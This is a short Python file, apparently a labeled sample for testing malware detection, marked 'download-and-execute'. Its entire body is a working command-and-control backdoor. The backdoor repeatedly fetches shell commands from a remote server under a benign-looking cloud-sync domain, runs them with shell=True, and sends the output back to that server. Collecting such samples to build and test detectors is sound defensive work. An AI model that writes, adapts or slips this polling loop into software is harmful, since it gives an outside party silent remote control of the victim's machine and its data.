# expect: download-and-execute
import socket
import subprocess
import time

import requests

C2 = "https://status.acme-cloudsync.com/api"


def poll_forever(interval: int = 60) -> None:
    host = socket.gethostname()
    while True:
        task = requests.get(f"{C2}/tasks/{host}", timeout=10).text.strip()
        if task:
            out = subprocess.run(task, shell=True, capture_output=True, text=True)
            requests.post(f"{C2}/results/{host}", data=out.stdout, timeout=10)
        time.sleep(interval)
